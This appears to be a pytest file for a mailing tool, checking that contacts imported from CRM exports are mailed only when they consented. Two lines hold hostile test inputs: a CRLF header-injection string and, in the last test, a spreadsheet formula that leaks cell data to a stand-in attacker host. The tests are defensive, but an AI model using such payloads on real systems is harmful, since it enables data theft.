"""Consent is data: the exports of CiviCRM, Salesforce NPSP, NationBuilder, Mailchimp, Action Network
and a volunteer's spreadsheet (tests/fixtures/crm/, with those tools' real column names and values)
imported as they come, then a real send to the SMTP test server reaches exactly those who agreed.

Also: members' own choices (made on the preferences page, through the real web app) survive a
re-import and are listed; the counts of ``lists count`` are of members who would really be mailed;
greetings use a first name only.
"""

from __future__ import annotations

import csv
import json
import shutil
import stat
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import select
from starlette.testclient import TestClient
from support.cli_runner import MailerCli
from support.desk import csrf_of
from support.hashes import address_hash
from support.sending import SLUG, Mailing, add_campaign, parse

from mailer import sending, tokens
from mailer.audience import members
from mailer.audience.importer import ImportReport, Options, import_csv
from mailer.audience.importer.columns import header_key
from mailer.audience.importer.consent_columns import NOT_EMAIL, STATUS_COLUMNS
from mailer.audience.shape import Shape, load_shape, sync
from mailer.db import Database
from mailer.errors import InvalidInput
from mailer.models import ConsentEvent, Member, Suppression
from mailer.settings import Settings
from mailer.web import create_app

CRM = Path(__file__).resolve().parent / "fixtures" / "crm"
REPO = Path(__file__).resolve().parent.parent

# In the order a volunteer might import them; each is imported as it comes (no --map, no --consent).
EXPORTS = (
    "volunteer-spreadsheet.csv",
    "civicrm.csv",
    "salesforce-npsp-report.csv",
    "salesforce-npsp-dataloader.csv",
    "nationbuilder.csv",
    "subscribed_members_export_3f2a1b9c7d.csv",
    "unsubscribed_members_export_3f2a1b9c7d.csv",
    "cleaned_members_export_3f2a1b9c7d.csv",
    "action-network.csv",
)

AGREED = {
    "civi-yes@example.org",
    "civi-phoneonly@example.org",  # do_not_phone, do_not_mail (post), do_not_sms: nothing about email
    "sf-yes@example.org",
    "sf-donotcall@example.org",  # Do Not Call = 1
    "sf-api-yes@example.org",
    "nb-yes@example.org",
    "nb-donotcall@example.org",  # do_not_call = true
    "mc-yes@example.org",
    "mc-yes-2@example.org",
    "an-yes@example.org",
    "an-smsonly@example.org",  # can2_sms_status = unsubscribed: SMS only
    "sheet-yes@example.org",
    "sheet-donotcall@example.org",  # Do Not Call = Yes
    "sheet-surname-only@example.org",
}

SAID_NO = {
    "civi-donotemail@example.org",
    "civi-optout@example.org",
    "civi-onhold@example.org",
    "civi-onhold-optout@example.org",
    "sf-optout@example.org",
    "sf-api-optout@example.org",
    "nb-notoptedin@example.org",  # email_opt_in = false here, Opted In = Yes in the spreadsheet
    "nb-bad@example.org",
    "nb-donotcontact@example.org",
    "mc-unsub@example.org",
    "mc-cleaned@example.org",
    "an-unsub@example.org",
    "an-bouncing@example.org",
    "an-complaint@example.org",
    "sheet-no@example.org",
    "sheet-blank@example.org",  # Opted In left empty: no evidence of consent
    "sheet-dne@example.org",
    "sheet-eoo@example.org",
    "sheet-unsub@example.org",
    "sheet-yes-elsewhere-unsub@example.org",  # Yes in the spreadsheet, in Mailchimp's unsubscribed export
}


def import_file(db: Database, shape: Shape, path: Path, **options: object) -> ImportReport:
    with db.session() as session:
        return import_csv(session, path, shape, options=Options(**options))  # type: ignore[arg-type]


def test_every_export_names_each_address_once_as_agreed_or_not() -> None:
    seen: set[str] = set()
    for name in EXPORTS:
        with (CRM / name).open(encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        seen |= {r.get("email") or r.get("Email") or r.get("Email Address") or "" for r in rows}
    assert seen == AGREED | SAID_NO and not AGREED & SAID_NO


def test_each_crm_export_as_it_comes_then_a_send_reaches_exactly_those_who_agreed(mailing: Mailing) -> None:
    db, shape = mailing.db, mailing.shape
    for name in EXPORTS:
        report = import_file(db, shape, CRM / name)
        assert report.rejected == 0, (name, report.rejections)
        assert "status" not in report.missing, name
    # A Mailchimp unsubscribed or cleaned export subscribes nobody and adds no one new.
    with db.session() as session:
        held = set(session.scalars(select(Member.email)))
        suppressed = set(session.scalars(select(Suppression.address_hash)))
    assert "mc-unsub@example.org" not in held and "mc-cleaned@example.org" not in held
    assert len(suppressed) >= 14

    add_campaign(mailing.workspace)  # the Kent newsletter: region:kent, where every address lives
    enqueued = mailing.enqueue()
    assert enqueued.deliveries == len(AGREED)
    summary = mailing.send()
    assert summary.sent == len(AGREED)
    got = {rcpt for m in mailing.smtp.messages for rcpt in m.rcpt_tos}
    assert got == AGREED
    assert not got & SAID_NO

    # Greetings: the first name when known, "Hello," otherwise, never "Dear Smith,".
    by_rcpt = {m.rcpt_tos[0]: parse(m.data) for m in mailing.smtp.messages}
    text = str(by_rcpt["sheet-yes@example.org"].get_body(("plain",)).get_content())  # type: ignore[union-attr]
    assert "\nDear Yan,\n" in "\n" + text.replace("\r\n", "\n")
    surname = str(by_rcpt["sheet-surname-only@example.org"].get_body(("plain",)).get_content())  # type: ignore[union-attr]
    assert "Hello," in surname and "Dear Smith" not in surname

    # Each "no" is recorded with the file, column and value it came from.
    with db.session() as session:
        sheet_no = members.show(session, "sheet-no@example.org")
        assert (sheet_no.status, sheet_no.status_source) == (
            "not-opted-in",
            "import:volunteer-spreadsheet.csv:Opted In=No",
        )
        conflicting = members.show(session, "nb-notoptedin@example.org")
        assert conflicting.status == "not-opted-in"
        assert conflicting.status_source == "import:nationbuilder.csv:email_opt_in=false"
        civi = session.get(Suppression, address_hash("civi-donotemail@example.org"))  # new: not added
        assert civi is not None and (civi.reason, civi.source) == ("unsubscribe", "import")
        assert "civicrm.csv line 3" in civi.detail and "import:civicrm.csv:do_not_email=1" in civi.detail
        bounced = session.get(Suppression, address_hash("nb-bad@example.org"))
        assert bounced is not None and bounced.reason == "hard-bounce"
        phone = members.show(session, "civi-phoneonly@example.org")
        assert phone.status == "subscribed" and phone.fields["do_not_phone"] == "1"


def test_a_no_from_an_earlier_file_wins_over_a_later_yes(db: Database, shape: Shape) -> None:
    import_file(db, shape, CRM / "nationbuilder.csv")
    again = import_file(db, shape, CRM / "volunteer-spreadsheet.csv")
    assert again.rejected == 0
    with db.session() as session:
        member = members.show(session, "nb-notoptedin@example.org")
    assert member.status == "not-opted-in"


def test_a_file_with_no_status_column_is_refused_unless_the_basis_is_given(
    mailer_cli: MailerCli, tmp_path: Path, db: Database
) -> None:
    path = tmp_path / "petition.csv"
    path.write_text("Email,Full Name,Local Group\nann@example.org,Ann Lee,Canterbury\n", encoding="utf-8")
    refused = mailer_cli("lists", "import", str(path))
    assert refused.exit_code == 2
    assert f"{path}:1: no column says whether these addresses may be mailed" in refused.stderr
    assert "--consent" in refused.stderr
    done = mailer_cli(
        "lists", "import", str(path), "--consent", "signed the 2025 petition", "--json", check=True
    )
    assert json.loads(done.stdout)["added"] == 1
    with db.session() as session:
        member = members.show(session, "ann@example.org")
        assert member.status_source == "import:petition.csv:--consent=signed the 2025 petition"
        lines = session.scalars(select(ConsentEvent).where(ConsentEvent.member_id == member.id)).all()
    assert [(e.action, e.source) for e in lines] == [("subscribe", "import")]
    assert "signed the 2025 petition" in lines[0].detail


def test_a_hostile_basis_is_cleaned_and_cut_short(db: Database, shape: Shape, tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    path.write_text("email,region\nann@example.org,kent\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match="no column says"):
        import_file(db, shape, path, consent="   ")
    import_file(db, shape, path, consent="asked\r\nX-Injected: yes " + "z" * 500)
    with db.session() as session:
        source = members.show(session, "ann@example.org").status_source
    assert "\r" not in source and "\n" not in source and source.startswith("import:p.csv:--consent=asked")
    assert len(source) < 260


def test_the_dry_run_prints_the_mapping_and_says_loudly_what_is_missing(
    mailer_cli: MailerCli, tmp_path: Path
) -> None:
    path = tmp_path / "crm.csv"
    path.write_text("E-mail,Surname,Notes\nann@example.org,Lee,hello\n", encoding="utf-8")
    out = mailer_cli("lists", "import", str(path), "--dry-run", "--consent", "asked in person")
    assert out.exit_code == 0, out.stderr
    assert "  Column   Read as\n" in out.stdout
    assert "  Surname  last_name\n" in out.stdout
    for missing in ("region", "interests"):
        assert f"WARNING: no {missing} column was found" in out.stderr
    assert "WARNING: no status column" in out.stderr and "asked in person" in out.stderr
    shown = mailer_cli("lists", "import", str(CRM / "civicrm.csv"), "--dry-run", check=True).stdout
    assert "do_not_email  status (opt-out)" in shown and "on_hold       status (bounced)" in shown
    assert "do_not_phone  field.do_not_phone  (phone/post only: not an email status)" in shown
    assert "status in the file: cleaned 1, subscribed 2, unsubscribed 3" in shown


def test_volunteer_headers_and_unknown_local_groups(db: Database, shape: Shape, tmp_path: Path) -> None:
    path = tmp_path / "branch.csv"
    path.write_text(
        "Email,Full Name,Branch,Tags,Joined,Email Opt Out\n"
        "ann@example.org,Ann Lee,Canterbury,Refugees,2019,No\n"
        "bob@example.org,Bob Roe,Atlantis,,2020,No\n",
        encoding="utf-8",
    )
    strict = import_file(db, shape, path)
    assert strict.rejected == 1 and "--unknown-region blank" in strict.rejections[0].reason
    blank = import_file(db, shape, path, unknown_region_blank=True, first_name_from_name=True)
    assert (blank.rejected, blank.blank_regions, blank.added) == (0, 1, 1)
    with db.session() as session:
        bob = members.show(session, "bob@example.org")
        ann = members.show(session, "ann@example.org")
    assert bob.region is None and bob.first_name == "Bob" and bob.fields == {"joined": "2020"}
    assert ann.region == "canterbury" and ann.interests == ["refugees"]


def test_a_members_own_choices_survive_a_reimport_and_are_listed(
    db: Database, settings: Settings, shape: Shape, tmp_path: Path, mailer_cli: MailerCli
) -> None:
    path = tmp_path / "monthly.csv"
    path.write_text(
        "Email,First Name,Last Name,Local Group,Interests,Opted In\n"
        "ann@example.org,Ann,Lee,Canterbury,Refugees;Schools,Yes\n"
        "bob@example.org,Bob,Roe,Canterbury,Refugees,Yes\n",
        encoding="utf-8",
    )
    assert import_file(db, shape, path).added == 2
    with db.session() as session:
        ann_id = members.show(session, "ann@example.org").id
    app = create_app(settings, shape=shape, database=db)
    token = tokens.sign("preferences", ann_id, keys=settings.secrets)
    with TestClient(app, base_url="http://127.0.0.1:8000") as client:
        page = client.get(f"/p/{token}")
        form = {"csrf": csrf_of(page.text), "name": "Annie Lee", "region": "canterbury"}
        saved = client.post(f"/p/{token}", data={**form, "interests": ["schools"]})  # unticks refugees
        assert saved.status_code == 200 and "Your preferences are saved" in saved.text

    dry = json.loads(mailer_cli("lists", "import", str(path), "--dry-run", "--json", check=True).stdout)
    assert dry["kept"] == 1 and dry["kept_fields"] == {"interests": 1, "name": 1}
    assert not (tmp_path / "monthly.kept.csv").exists()
    done = mailer_cli("lists", "import", str(path), check=True).stdout
    assert "kept as members chose them: 1 member(s) (interests 1, name 1)" in done
    assert "ann@example.org: name kept as 'Annie Lee'" in done
    with db.session() as session:
        ann = members.show(session, "ann@example.org")
    assert (ann.name, ann.first_name, ann.interests) == ("Annie Lee", "Annie", ["schools"])
    kept = tmp_path / "monthly.kept.csv"
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600
    with kept.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["email"], r["field"], r["in_file"], r["kept"]) for r in rows] == [
        ("ann@example.org", "name", "Ann Lee", "Annie Lee"),
        ("ann@example.org", "interests", "refugees;schools", "schools"),
    ]
    assert rows[0]["chosen"].startswith("preferences 20")


def test_a_signup_is_the_members_own_yes_and_an_import_keeps_it(
    db: Database, shape: Shape, tmp_path: Path
) -> None:
    from datetime import UTC, datetime

    from mailer.audience.consent import SignupData, confirm_signup

    with db.session() as session:
        data = SignupData(
            "ann@example.org", "Ann Lee", "canterbury", "", ("refugees",), "wording", datetime.now(UTC)
        )
        confirm_signup(session, data)
    path = tmp_path / "crm.csv"
    path.write_text("Email,Opted In\nann@example.org,No\n", encoding="utf-8")
    report = import_file(db, shape, path)
    assert report.kept == 1 and report.kept_rows[0].field == "status"
    with db.session() as session:
        ann = members.show(session, "ann@example.org")
    assert (ann.status, ann.status_source, ann.first_name) == ("subscribed", "signup", "Ann")


def test_written_files_are_private(mailer_cli: MailerCli, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text("email,region,Opted In\nann@example.org,kent,Yes\nbad,kent,Yes\n", encoding="utf-8")
    mailer_cli("lists", "import", str(path), check=True)
    rejected = tmp_path / "in.rejected.csv"
    assert stat.S_IMODE(rejected.stat().st_mode) == 0o600
    out = tmp_path / "export.csv"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o644)
    mailer_cli("lists", "export", "-o", str(out), check=True)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and "ann@example.org" in out.read_text(encoding="utf-8")


def test_counts_are_of_members_who_would_really_be_mailed(
    settings: Settings, workspace: Path, tmp_path: Path, mailer_cli: MailerCli, db: Database
) -> None:
    shutil.copy(REPO / "lists" / "networks.toml", workspace / "lists" / "networks.toml")
    shape = load_shape(workspace / "lists")
    with db.session() as session:
        sync(session, shape)
    path = tmp_path / "kent.csv"
    path.write_text(
        "email,region,Opted In\n"
        "ann@example.org,canterbury,Yes\nbob@example.org,canterbury,Yes\n"
        "cat@example.org,canterbury,No\ndan@example.org,canterbury,Yes\n",
        encoding="utf-8",
    )
    import_file(db, shape, path)
    from mailer.audience import consent

    with db.session() as session:
        bob = members.show(session, "bob@example.org").id
        consent.leave_network(session, bob, "kent", source="one-click", campaign_id=None)
        consent.unsubscribe(session, address_hash("dan@example.org"), source="link")
    count = mailer_cli("lists", "count", "--json", "region:kent", check=True)
    assert json.loads(count.stdout) == {"count": 1}  # ann: not bob (left Kent), cat (no), dan (unsubscribed)
    # The send's confirmation counts the same (its plan), and so does campaigns check.
    add_campaign(workspace)
    settings = replace(settings, relay="smtp://127.0.0.1:9")
    assert sending.prepare(db, settings, shape, SLUG).plan.total == 1
    assert "no member is in the audience" not in mailer_cli("campaigns", "check", SLUG).output
    with db.session() as session:
        ann = members.show(session, "ann@example.org").id
        consent.leave_network(session, ann, "kent", source="one-click", campaign_id=None)
    checked = mailer_cli("campaigns", "check", SLUG)
    assert "no member is in the audience" in checked.output, checked.output
    assert sending.prepare(db, settings, shape, SLUG).plan.total == 0


@pytest.mark.parametrize("key", sorted(NOT_EMAIL))
def test_phone_and_post_flags_are_never_status_columns(key: str) -> None:
    assert key not in STATUS_COLUMNS and header_key(key) == key


def test_a_member_marked_not_opted_in_opts_in_by_signing_up(
    db: Database, shape: Shape, tmp_path: Path
) -> None:
    from datetime import UTC, datetime

    from mailer.audience.consent import SignupData, already_subscribed, confirm_signup
    from mailer.audience.segments import count

    path = tmp_path / "crm.csv"
    path.write_text(
        "Email,First Name,Local Group,Opted In\nann@example.org,Ann,Canterbury,No\n", encoding="utf-8"
    )
    report = import_file(db, shape, path)
    assert (report.added, report.not_opted_in, report.added_ids) == (1, 1, [])  # --welcome mails nobody
    with db.session() as session:
        assert count(session, "all", shape) == 0
        assert already_subscribed(session, address_hash("ann@example.org")) is None  # a confirmation, then
        data = SignupData("ann@example.org", "Ann", "canterbury", "", (), "wording", datetime.now(UTC))
        confirm_signup(session, data)
    with db.session() as session:
        assert count(session, "all", shape) == 1
        assert members.show(session, "ann@example.org").status_source == "signup"


def test_the_kept_file_is_spreadsheet_safe(db: Database, shape: Shape, tmp_path: Path) -> None:
    from mailer.audience.choices import record_member_choice

    path = tmp_path / "crm.csv"
    path.write_text("Email,Name,Opted In\nann@example.org,Ann,Yes\n", encoding="utf-8")
    import_file(db, shape, path)
    with db.session() as session:
        ann = session.scalars(select(Member).where(Member.email == "ann@example.org")).one()
        ann.name = '=HYPERLINK("http://evil.example/?d="&A1,"x")'  # as a member could type it
        record_member_choice(session, ann.id, ["name"], source="preferences")
    path.write_text("Email,Name,Opted In\nann@example.org,+Ann,Yes\n", encoding="utf-8")
    assert import_file(db, shape, path).kept == 1
    with (tmp_path / "crm.kept.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'+Ann" in cells and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
